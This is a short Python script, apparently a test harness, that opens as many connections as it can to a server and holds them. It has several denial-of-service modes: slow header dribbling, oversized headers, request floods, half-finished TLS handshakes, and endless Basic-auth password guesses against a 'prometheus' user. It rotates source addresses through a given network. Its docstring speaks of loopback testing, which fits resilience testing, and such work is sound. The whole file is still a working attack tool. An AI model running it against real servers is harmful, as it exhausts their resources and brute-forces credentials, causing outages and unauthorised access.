"""Keeps as many connections to a server open as one client may have: `attacker.py HOST PORT SOURCE COUNT HOW`.

SOURCE is an address of this machine, or a network from which each connection takes another address. Closed connections
are reopened. Prints "attacking" once all have been open. Runs until it is killed.
"""

import asyncio
import base64
import contextlib
import ipaddress
import itertools
import random
import ssl
import sys
from collections.abc import Iterator
from functools import cache

_GUESSES = itertools.count()
# Bytes that are sent first, and bytes that are repeated.
_WAYS = {
    "silent": (b"", b""),
    "dribble": (b"GET / HTTP/1.1\r\nX: ", b"a"),
    "large heads": (b"GET / HTTP/1.1\r\n", b"X: %b\r\n" % (b"b" * 65_000)),
    "requests": (b"", b"GET /metrics HTTP/1.1\r\n\r\n"),
    "requests, never reading": (b"", b"GET /metrics HTTP/1.1\r\n\r\n"),
}


@cache
def _hello() -> bytes:
    """The beginning of a TLS client's handshake."""
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), sent, server_hostname="xen1").do_handshake()
    return sent.read()


def _sent(how: str) -> Iterator[bytes]:
    if how == "guesses":
        for number in _GUESSES:
            guess = base64.b64encode(b"prometheus:guess %d" % number)
            yield b"GET /metrics HTTP/1.1\r\nAuthorization: Basic %b\r\n\r\n" % guess
    elif how == "handshakes, byte by byte":
        yield from (bytes([byte]) for byte in itertools.cycle(_hello()))
    elif how == "handshakes, one after the other":  # costs the server its most expensive step; never finished
        yield _hello()
    else:
        first, then = _WAYS[how]
        if first:
            yield first
        while then:
            yield then


async def _connection(server: tuple[str, int], network: ipaddress.IPv4Network, how: str, opened: asyncio.Event) -> None:
    while True:
        source = str(network[random.randrange(network.num_addresses)])
        try:
            reader, writer = await asyncio.open_connection(*server, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened.set()
        try:
            for sent in _sent(how):
                writer.write(sent)
                await writer.drain()
                if how in {"requests", "guesses", "handshakes, one after the other"}:
                    if not await reader.read(65536):
                        break
                elif how in {"dribble", "handshakes, byte by byte"}:
                    await asyncio.sleep(0.5)
            if how == "silent":
                await reader.read()
        except OSError:
            pass
        finally:
            writer.close()


async def attack(server: tuple[str, int], network: ipaddress.IPv4Network, count: int, how: str) -> None:
    """Attack a server on loopback from other loopback addresses."""
    events = [asyncio.Event() for _ in range(count)]
    attacks = [asyncio.create_task(_connection(server, network, how, opened)) for opened in events]
    for opened in events:
        await opened.wait()
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    await asyncio.gather(*attacks)


if __name__ == "__main__":
    asyncio.run(
        attack((sys.argv[1], int(sys.argv[2])), ipaddress.IPv4Network(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
    )
